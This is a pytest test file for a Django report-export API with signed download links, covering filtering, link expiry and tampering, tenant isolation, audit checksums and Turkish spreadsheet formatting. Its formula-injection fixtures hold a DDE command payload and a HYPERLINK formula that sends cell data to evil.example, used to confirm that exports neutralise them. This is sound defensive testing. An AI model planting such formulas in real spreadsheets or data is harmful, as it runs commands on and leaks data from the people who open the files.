"""POST /reports/export and its signed links: contents match the filters, every file says what it is,
links expire (410), tampering is refused (403), other people's exports do not exist (404), audit has the sha256."""

import csv
import hashlib
import io
import json

import jsonschema
import openpyxl
import pytest
import time_machine
from django.utils import timezone

from apps.audit.models import AuditLog
from apps.jobs.models import JobStatus
from apps.reporting import constants
from apps.reporting.models import ReportExport

from .conftest import make_job

pytestmark = pytest.mark.django_db


_commit = {}


@pytest.fixture(autouse=True)
def _run_on_commit(django_capture_on_commit_callbacks):
    """The export task is queued with transaction.on_commit: run the callbacks as the commit would."""
    _commit["capture"] = django_capture_on_commit_callbacks
    yield
    _commit.clear()


def start(api, fmt, filters=None, **extra):
    with _commit["capture"](execute=True):
        response = api.post("/reports/export", {"format": fmt, "filters": filters or {}, **extra}, format="json")
    assert response.status_code == 202, response.content
    return response.json()


def finished(api, export_id):
    body = api.get(f"/reports/export/{export_id}").json()
    assert body["status"] == "done", body
    return body


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def test_csv_holds_exactly_the_filtered_rows_with_turkish_headers_context_and_count(analyst_api, jobs, client):
    body = finished(analyst_api, start(analyst_api, "csv", {"status": "failed,succeeded", "machine": "M02"})["id"])
    raw = download(client, body["download_url"])
    text = raw.decode("utf-8")
    lines = list(csv.reader(io.StringIO(text)))
    context = {row[0]: row[1] for row in lines if row[0].startswith("#")}
    assert json.loads(context["# Filtreler"]) == {"machine": "M02", "status": ["failed", "succeeded"]}
    assert context["# Saat dilimi"] == "Europe/Istanbul"
    assert context["# Talep eden"] == "analyst_a"
    assert context["# Üretici sürümü"] == constants.EXPORT_GENERATOR_VERSION
    assert context["# Satır sayısı"] == "4"
    data = [row for row in lines if not row[0].startswith("#")]
    assert data[0][:4] == ["İş kimliği", "ERP kimliği", "Firma", "Firma kodu"]
    assert data[0][7:9] == ["Durum", "Durum kodu"]
    expected = {str(j.public_id) for j in jobs if j.machine.code == "M02" and j.status in ("failed", "succeeded")}
    assert {row[0] for row in data[1:]} == expected
    assert body["row_count"] == 4
    assert body["sha256"] == hashlib.sha256(raw).hexdigest()


def test_audit_holds_export_id_filters_and_checksum(analyst_api, jobs):
    body = finished(analyst_api, start(analyst_api, "json", {"machine": "M01"})["id"])
    entry = AuditLog.objects.get(action="reporting.export_completed")
    assert entry.payload["export_id"] == body["id"]
    assert entry.payload["filters"] == {"machine": "M01"}
    assert entry.payload["sha256"] == body["sha256"]
    assert entry.payload["row_count"] == 5


def test_json_validates_against_the_published_schema_and_keeps_turkish(analyst_api, jobs, client, tenant_a, catalog):
    make_job(tenant_a, catalog, 7, 9, JobStatus.QUEUED, "p1", "disli", None, external_id="ŞİŞE-ğüıİ")
    body = finished(analyst_api, start(analyst_api, "json")["id"])
    document = json.loads(download(client, body["download_url"]))
    schema = client.get("/reports/export/schema.json").json()
    jsonschema.validate(document, schema)
    assert document["row_count"] == len(document["rows"]) == 11
    assert document["meta"]["requested_by"] == "analyst_a"
    assert document["rows"][0]["external_id"] == "ŞİŞE-ğüıİ"
    assert document["columns"][0]["title"] == "İş kimliği"


def test_xlsx_opens_with_typed_cells_and_an_info_sheet(analyst_api, jobs, client, tmp_path):
    body = finished(analyst_api, start(analyst_api, "xlsx", {"status": "failed"})["id"])
    path = tmp_path / "r.xlsx"
    path.write_bytes(download(client, body["download_url"]))
    workbook = openpyxl.load_workbook(path)
    sheet, info = workbook["İşler"], workbook["Dışa aktarım bilgisi"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][-1] == "Süre (ms)"
    assert len(rows) == 3
    duration_cell = sheet.cell(row=2, column=14)
    assert isinstance(duration_cell.value, int) and duration_cell.number_format == "#,##0"
    created = sheet.cell(row=2, column=11)
    assert created.is_date and created.number_format == "dd.mm.yyyy hh:mm:ss"
    facts = {row[0]: row[1] for row in info.iter_rows(values_only=True)}
    assert facts["Satır sayısı"] == 2 and facts["Saat dilimi"] == "Europe/Istanbul"


def test_xlsx_over_the_sheet_limit_is_refused_with_an_offer_of_csv(analyst_api, jobs, monkeypatch):
    # The limit is Excel's 1,048,575 rows; a fixture that size would take minutes, so the limit shrinks.
    monkeypatch.setattr(constants, "XLSX_MAX_ROWS", 9)
    response = analyst_api.post("/reports/export", {"format": "xlsx"}, format="json")
    assert response.status_code == 422
    body = response.json()
    assert body["type"] == "urn:tezgah:problem:export-too-large"
    assert body["suggested_format"] == "csv" and body["rows"] == 10
    assert "CSV" in body["detail"]
    assert not ReportExport.objects.exists()
    assert finished(analyst_api, start(analyst_api, "csv")["id"])["row_count"] == 10


def test_an_expired_link_is_410(analyst_api, jobs, client, settings):
    settings.EXPORT_SIGNED_URL_TTL = 60
    body = finished(analyst_api, start(analyst_api, "csv")["id"])
    with time_machine.travel(timezone.now() + timezone.timedelta(seconds=61)):
        response = client.get(body["download_url"])
    assert response.status_code == 410
    assert response.json()["type"] == "urn:tezgah:problem:link-expired"


def test_a_tampered_link_is_403(analyst_api, jobs, client):
    body = finished(analyst_api, start(analyst_api, "csv")["id"])
    url = body["download_url"]
    assert client.get(url[:-2] + ("aa" if not url.endswith("aa") else "bb")).status_code == 403
    other = finished(analyst_api, start(analyst_api, "json")["id"])
    # A valid token of one export does not open another.
    swapped = other["download_url"].split("?")[0] + "?" + url.split("?")[1]
    assert client.get(swapped).status_code == 403
    assert client.get(url.split("?")[0]).status_code == 403


def test_a_single_use_link_works_once(analyst_api, jobs, client):
    body = finished(analyst_api, start(analyst_api, "csv", single_use=True)["id"])
    download(client, body["download_url"])
    assert client.get(body["download_url"]).status_code == 410
    assert analyst_api.get(f"/reports/export/{body['id']}").json()["download_url"] is None


def test_another_tenants_export_does_not_exist(analyst_api, other_analyst_api, jobs):
    export_id = start(analyst_api, "csv")["id"]
    response = other_analyst_api.get(f"/reports/export/{export_id}")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"


def test_bad_export_requests_are_422(analyst_api):
    for body in ({"format": "pdf"}, {"format": "csv", "filters": {"status": "nope"}}):
        response = analyst_api.post("/reports/export", body, format="json")
        assert response.status_code == 422, body


def test_jobs_created_after_the_request_are_not_in_the_file(analyst_api, jobs, tenant_a, catalog, client):
    export = start(analyst_api, "json")
    make_job(tenant_a, catalog, 8, 9, JobStatus.QUEUED, "p1", "flans", None)
    # The task ran at commit (eager); run it again to show a rerun changes nothing and the snapshot holds.
    from apps.reporting.tasks import write_report_export

    write_report_export(export["id"])
    document = json.loads(download(client, finished(analyst_api, export["id"])["download_url"]))
    assert document["row_count"] == 10


def test_an_idempotency_key_replay_returns_the_first_export(analyst_api, jobs):
    from apps.reporting.models import ReportExport

    first = analyst_api.post("/reports/export", {"format": "csv"}, format="json", HTTP_IDEMPOTENCY_KEY="rapor-1")
    again = analyst_api.post("/reports/export", {"format": "csv"}, format="json", HTTP_IDEMPOTENCY_KEY="rapor-1")
    assert first.status_code == again.status_code == 202
    assert first.json()["id"] == again.json()["id"] and again["Idempotent-Replayed"] == "true"
    assert ReportExport.objects.count() == 1
    other = analyst_api.post("/reports/export", {"format": "json"}, format="json", HTTP_IDEMPOTENCY_KEY="rapor-1")
    assert other.status_code == 422  # the same key for another body
    assert ReportExport.objects.count() == 1


def test_filters_that_are_not_an_object_are_a_422_not_a_crash(analyst_api):
    response = analyst_api.post("/reports/export", {"format": "csv", "filters": [None, None]}, format="json")
    assert response.status_code == 422
    assert "filters" in response.json()["errors"]


# ------------------------------------------------------------------ spreadsheets for people, safe to open

EVIL_ERP_ID = "=cmd|' /C calc'!A0"
EVIL_MODEL_CODE = '=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")'


@pytest.fixture
def evil_job(tenant_a, catalog):
    """A job whose operator-controlled texts (ERP id, model type code) are spreadsheet formulas."""
    from tests import factories

    evil_type = factories.ModelTypeFactory(tenant=tenant_a, code=EVIL_MODEL_CODE, name="Kötü")
    catalog["evil"] = evil_type
    return make_job(tenant_a, catalog, 7, 9, JobStatus.FAILED, "p1", "evil", 1500, external_id=EVIL_ERP_ID)


def _csv_rows(raw: bytes, encoding="utf-8", delimiter=","):
    lines = list(csv.reader(io.StringIO(raw.decode(encoding)), delimiter=delimiter))
    return [row for row in lines if not row[0].startswith("#")]


@pytest.mark.parametrize(("fmt", "encoding", "delimiter"), [("csv", "utf-8", ","), ("csv_excel", "utf-8-sig", ";")])
def test_csv_cells_that_would_run_as_formulas_are_quoted(analyst_api, evil_job, client, fmt, encoding, delimiter):
    body = finished(analyst_api, start(analyst_api, fmt, {"model_type": EVIL_MODEL_CODE})["id"])
    raw = download(client, body["download_url"])
    header, row = _csv_rows(raw, encoding, delimiter)
    assert row[header.index("ERP kimliği")] == "'" + EVIL_ERP_ID
    assert row[header.index("Model tipi")] == "'" + EVIL_MODEL_CODE
    # Not one cell of the file (context lines included) starts a formula.
    for line in csv.reader(io.StringIO(raw.decode(encoding)), delimiter=delimiter):
        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in line), line


def test_xlsx_cells_are_text_never_formulas(analyst_api, evil_job, client, tmp_path):
    import zipfile

    body = finished(analyst_api, start(analyst_api, "xlsx", {"model_type": EVIL_MODEL_CODE})["id"])
    path = tmp_path / "r.xlsx"
    path.write_bytes(download(client, body["download_url"]))
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(path)["İşler"]
    header = [c.value for c in sheet[1]]
    erp_cell = sheet.cell(row=2, column=header.index("ERP kimliği") + 1)
    model_cell = sheet.cell(row=2, column=header.index("Model tipi") + 1)
    # The exact text, typed as text, with Excel's quote prefix so editing the cell keeps it text.
    assert (erp_cell.value, erp_cell.data_type, erp_cell.quotePrefix) == (EVIL_ERP_ID, "s", True)
    assert (model_cell.value, model_cell.data_type, model_cell.quotePrefix) == (EVIL_MODEL_CODE, "s", True)
    info = openpyxl.load_workbook(path)["Dışa aktarım bilgisi"]
    filters = {row[0]: row[1] for row in info.iter_rows(values_only=True)}["Filtreler"]
    assert json.loads(filters) == {"model_type": EVIL_MODEL_CODE}


def test_spreadsheets_show_turkish_status_labels_and_tenant_names_beside_the_codes(analyst_api, jobs, client, tmp_path):
    csv_body = finished(analyst_api, start(analyst_api, "csv", {"status": "failed,queued"})["id"])
    header, *rows = _csv_rows(download(client, csv_body["download_url"]))
    statuses = {(r[header.index("Durum")], r[header.index("Durum kodu")]) for r in rows}
    assert statuses == {("Başarısız", "failed"), ("Sırada", "queued")}
    assert {(r[header.index("Firma")], r[header.index("Firma kodu")]) for r in rows} == {("Anadolu Döküm", "anadolu")}
    assert {r[header.index("Süre (ms)")] for r in rows} == {"7000", "9000", ""}

    xlsx_body = finished(analyst_api, start(analyst_api, "xlsx", {"status": "failed"})["id"])
    path = tmp_path / "r.xlsx"
    path.write_bytes(download(client, xlsx_body["download_url"]))
    sheet_rows = list(openpyxl.load_workbook(path)["İşler"].iter_rows(values_only=True))
    xlsx_header = list(sheet_rows[0])
    assert {r[xlsx_header.index("Durum")] for r in sheet_rows[1:]} == {"Başarısız"}
    assert {r[xlsx_header.index("Firma")] for r in sheet_rows[1:]} == {"Anadolu Döküm"}

    # JSON is for programs: codes only, as its schema says.
    json_body = finished(analyst_api, start(analyst_api, "json", {"status": "failed"})["id"])
    document = json.loads(download(client, json_body["download_url"]))
    assert {(r["status"], r["tenant"]) for r in document["rows"]} == {("failed", "anadolu")}


def test_the_excel_dialect_has_a_bom_semicolons_and_day_first_istanbul_times(analyst_api, jobs, client):
    body = finished(analyst_api, start(analyst_api, "csv_excel", {"status": "failed"})["id"])
    raw = download(client, body["download_url"])
    assert raw.startswith(b"\xef\xbb\xbf")
    assert body["download_url"] and body["format"] == "csv_excel"
    header, *rows = _csv_rows(raw, "utf-8-sig", ";")
    assert header[0] == "İş kimliği" and len(header) == len(constants.SPREADSHEET_COLUMNS)
    created = sorted(r[header.index("Oluşturulma zamanı")] for r in rows)
    # Job table: failed jobs created on 3 Nov 11:00 and 4 Nov 13:00, Istanbul wall clock.
    assert created == ["03.11.2026 11:00:00", "04.11.2026 13:00:00"]
    plain = finished(analyst_api, start(analyst_api, "csv", {"status": "failed"})["id"])
    plain_raw = download(client, plain["download_url"])
    assert not plain_raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in plain_raw
    plain_header, *plain_rows = _csv_rows(plain_raw)
    assert sorted(r[plain_header.index("Oluşturulma zamanı")] for r in plain_rows) == [
        "2026-11-03T11:00:00+03:00",
        "2026-11-04T13:00:00+03:00",
    ]


def test_the_excel_dialect_downloads_as_a_csv_file(analyst_api, jobs, client):
    body = finished(analyst_api, start(analyst_api, "csv_excel")["id"])
    response = client.get(body["download_url"])
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="tezgah-rapor-' in response["Content-Disposition"]
    assert response["Content-Disposition"].rstrip('"').endswith(".csv")
